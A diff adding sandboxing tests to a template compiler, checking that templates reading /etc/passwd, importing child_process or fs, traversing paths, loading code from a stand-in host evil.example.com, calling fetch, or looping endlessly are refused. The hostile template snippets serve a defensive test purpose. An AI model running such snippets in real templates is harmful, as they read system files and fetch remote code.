@@ -196,6 +196,56 @@ test('a template that forgets to close a story says so', async () => {
   );
 });
 
+test.each([
+  [
+    "import { readFileSync } from 'node:fs';\nconst text = readFileSync('/etc/passwd', 'utf8');",
+    /imports node:fs, which a template may not/,
+  ],
+  [
+    "import fs from 'fs/promises';\nconst text = String(fs);",
+    /imports fs\/promises, which a template may not/,
+  ],
+  ["import left from 'left-pad';\nconst text = String(left);", /imports the package left-pad/],
+  ["import config from '../../../../etc/hosts';\nconst text = config;", /lies outside its folder/],
+  ["import code from 'https://evil.example.com/x.js';\nconst text = code;", /lies elsewhere/],
+  ["const name = 'node:' + 'fs';\nconst text = String(await import(name));", /imports at run time/],
+  ["const text = String(require('child_' + 'process'));", /require/],
+  ["const text = process.getBuiltinModule('fs').readFileSync('/etc/passwd', 'utf8');", /is not a function/],
+  ["await fetch('http://127.0.0.1:1/');\nconst text = '';", /fetch is not defined/],
+])('a template that imports or does what it should not is refused: %s', async (code, reason) => {
+  const file = join(folder, `greedy${Math.floor(performance.now() * 1000)}.tsx`);
+  writeFileSync(file, `${code}\nexport default function T() { return <p>{text}</p>; }\n`);
+  await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(reason);
+});
+
+test('a template may have files of its own beside it', async () => {
+  writeFileSync(join(folder, 'part.ts'), "export const wave = 'waves and wind';\n");
+  const file = join(folder, 'with-part.tsx');
+  writeFileSync(
+    file,
+    "import { wave } from './part.ts';\nexport default function T(props) { return <html><body><p>{wave}</p>{props.sections.map((s) => [s.open, s.stories.map((t) => [t.open, t.title, t.close]), s.close])}</body></html>; }\n",
+  );
+  const html = assembleHtml(await compileEdition(editionContent({ theme: file })), [[0], [], []], values);
+  expect(html).toContain('waves and wind');
+});
+
+test.each([
+  ['while (true) {}', /did not finish within 12 s/],
+  [
+    'const all = [];\n  while (true) all.push(new Array(100000).fill(all.length));',
+    /ended its thread.*memory/,
+  ],
+])(
+  'a template that does not stop is stopped, and the next one works: %s',
+  async (code, reason) => {
+    const file = join(folder, `endless${Math.floor(performance.now() * 1000)}.tsx`);
+    writeFileSync(file, `export default function T() {\n  ${code}\n}\n`);
+    await expect(compileEdition(editionContent({ theme: file }))).rejects.toThrow(reason);
+    expect((await compileEdition(editionContent())).slots).toHaveLength(3);
+  },
+  90_000,
+);
+
 test('a theme that is not there is told with what was looked for', async () => {
   await expect(compileEdition(editionContent({ theme: 'gazette' }))).rejects.toThrow(
     /no theme "gazette".*gazette/,
